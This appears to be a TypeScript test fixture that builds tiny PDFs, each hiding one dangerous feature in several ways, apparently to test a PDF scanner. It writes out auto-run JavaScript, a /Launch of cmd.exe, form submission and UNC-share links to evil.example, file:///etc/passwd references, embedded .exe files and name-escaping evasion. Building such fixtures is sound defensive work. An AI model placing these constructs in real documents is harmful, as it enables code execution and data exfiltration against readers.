/** PDFs that each contain one forbidden thing, in the various ways in which it can be hidden. */
import { deflateSync } from 'node:zlib';

export interface PdfParts {
  /** Additional entries of the catalogue. */
  readonly catalog?: string;
  /** Additional entries of the only page. */
  readonly page?: string;
  /** Additional objects, numbered from 4. */
  readonly objects?: readonly string[];
}

const writeObjects = ({ catalog = '', page = '', objects = [] }: PdfParts): string[] => [
  `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>`,
  ...objects,
];

/** Writes each object unpacked, with an offset table. */
export function plainPdf(parts: PdfParts): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = writeObjects(parts).map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = text.length;
  text += `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${entries}`;
  text += `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** Packs all objects except streams into an object stream, as most programs do today. */
export function packedPdf(parts: PdfParts): Buffer {
  const objects = writeObjects(parts);
  const isStream = (object: string): boolean => object.includes('endstream');
  const numbered = objects.map((object, index) => ({ object, number: index + 1 }));
  const packed = numbered.filter(({ object }) => !isStream(object));
  let offset = 0;
  const header = packed.map(({ object, number }) => {
    const entry = `${number} ${offset}`;
    offset += object.length + 1;
    return entry;
  });
  const head = `${header.join(' ')}\n`;
  const data = deflateSync(Buffer.from(head + packed.map(({ object }) => `${object}\n`).join(''), 'latin1'));
  const open = numbered
    .filter(({ object }) => isStream(object))
    .map(({ object, number }) => `${number} 0 obj\n${object}\nendobj\n`);
  const next = objects.length + 1;
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n${open.join('')}${next} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from(`\nendstream\nendobj\ntrailer\n<< /Size ${next + 1} /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`),
  ]);
}

/** Writes `/Launch` as `/#4caunch`, which every reader decodes to the same name. */
const escapeNames = (text: string): string =>
  text.replaceAll(
    /\/([A-Za-z0-9])/g,
    (_, letter: string) => `/#${letter.charCodeAt(0).toString(16).padStart(2, '0')}`,
  );

export const escaped = ({ catalog = '', page = '', objects = [] }: PdfParts): PdfParts => ({
  catalog: escapeNames(catalog),
  page: escapeNames(page),
  objects: objects.map((object) => (object.includes('endstream') ? object : escapeNames(object))),
});

const stream = (dictionary: string, data = 'x'): string =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`;
const onOpen = (action: string): PdfParts => ({ catalog: `/OpenAction << ${action} >>` });
const annotation = (entries: string, ...objects: readonly string[]): PdfParts => ({
  page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`,
  objects,
});
const clicked = (action: string): PdfParts => annotation(`/Subtype /Link /A << ${action} >>`);
const button = (action: string): PdfParts => ({
  catalog: '/AcroForm << /Fields [4 0 R] >>',
  page: '/Annots [4 0 R]',
  objects: [`<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << ${action} >> >>`],
});

export const HOSTILE: Readonly<Record<string, PdfParts>> = {
  'a script on open': onOpen('/S /JavaScript /JS (app.alert(1))'),
  'a script by name': {
    catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /S /JavaScript /JS (x) >>'],
  },
  'a script of a page': { page: '/AA << /O << /S /JavaScript /JS (x) >> >>' },
  'a script without its kind': clicked('/JS (x)'),
  'a program that starts': clicked('/S /Launch /F (cmd.exe)'),
  'a rendition on open': onOpen('/S /Rendition /OP 0 /R 4 0 R'),
  'a rendition that someone clicks': clicked('/S /Rendition /OP 0 /R 4 0 R'),
  'a rendition by name': {
    catalog: '/Names << /Renditions << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /S /MR /N (a) >>'],
  },
  'a program for the printer': { objects: [stream('/Type /XObject /Subtype /PS', 'showpage')] },
  'a picture with a program for the printer': {
    objects: [stream('/Type /XObject /Subtype /Form /Subtype2 /PS /BBox [0 0 9 9]')],
  },
  'a screen with a clip': annotation('/Subtype /Screen /A << /R << /S /MR /C << /S /MCD >> >> >>'),
  'a form of XML': { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', '<xdp:xdp/>')] },
  'a 3D view': annotation('/Subtype /3D /3DD 4 0 R', stream('/Type /3D /Subtype /U3D')),
  'rich media': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'a file inside': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('/Type /EmbeddedFile')],
  },
  'a file that belongs to a page': {
    page: '/AF [4 0 R]',
    objects: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', stream('')],
  },
  'an attached file': annotation('/Subtype /FileAttachment /FS (a.exe)'),
  'a portfolio': { catalog: '/Collection << /View /D >>' },
  'a form that is sent': button('/S /SubmitForm /F (https://evil.example) /Flags 4'),
  'a form that is filled from a file': button('/S /ImportData /F (x.fdf)'),
  'another file that opens': clicked(String.raw`/S /GoToR /F (\\\\evil.example\\x.pdf) /D [0 /Fit]`),
  'a file inside that opens': clicked('/S /GoToE /T << /R /C /N (a) >>'),
  'an article of another file': clicked('/S /Thread /F (other.pdf) /D 0'),
  'a film': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a film that starts': clicked('/S /Movie'),
  'a sound': annotation('/Subtype /Sound /Sound 4 0 R', stream('/R 8000')),
  'a sound that starts': clicked('/S /Sound'),
  'a script behind a link that looks like a port': clicked('/S /URI /URI (javascript:1;app.alert\\(1\\))'),
  'a script behind a link, in UTF-16': clicked(
    `/S /URI /URI <FEFF${Buffer.from('javascript:0', 'utf16le').swap16().toString('hex')}>`,
  ),
  'a picture of a printer’s own file': {
    page: '/Resources << /XObject << /A 4 0 R >> >>',
    objects: [stream('/Subtype /Image /OPI << /2.0 << /Type /OPI /F (other.tif) >> >>')],
  },
  'an address on open': onOpen('/S /URI /URI (https://evil.example)'),
  'an address on open, elsewhere in the file': {
    catalog: '/OpenAction 4 0 R',
    objects: ['<< /S /URI /URI (https://evil.example) >>'],
  },
  'an address behind a page that is shown on open': onOpen(
    '/S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example) >>]',
  ),
  'an address when the page is shown': { page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' },
  'an address when the pointer comes': annotation(
    '/Subtype /Link /AA << /E << /S /URI /URI (https://evil.example) >> >>',
  ),
  'an address when the file is closed': {
    catalog: '/AA << /WC << /S /URI /URI (https://evil.example) >> >>',
  },
  'printing on open': onOpen('/S /Named /N /Print'),
  'a link to a file': clicked('/S /URI /URI (file:///etc/passwd)'),
  'a link that is a script': clicked('/S /URI /URI (java\nscript:alert(1))'),
  'a link to a share': clicked(String.raw`/S /URI /URI (\\\\evil.example\\share)`),
  'links that begin at a file': { catalog: '/URI << /Base (file:///C:/) >>' },
  'a stream in another file': { objects: [stream('/F (/etc/passwd)')] },
  'a picture of another file': {
    objects: [stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>')],
  },
  'a kind that stands elsewhere': {
    page: '/Annots [<< /Type /Annot /Subtype 4 0 R /Rect [0 0 9 9] >>]',
    objects: ['/Movie'],
  },
};
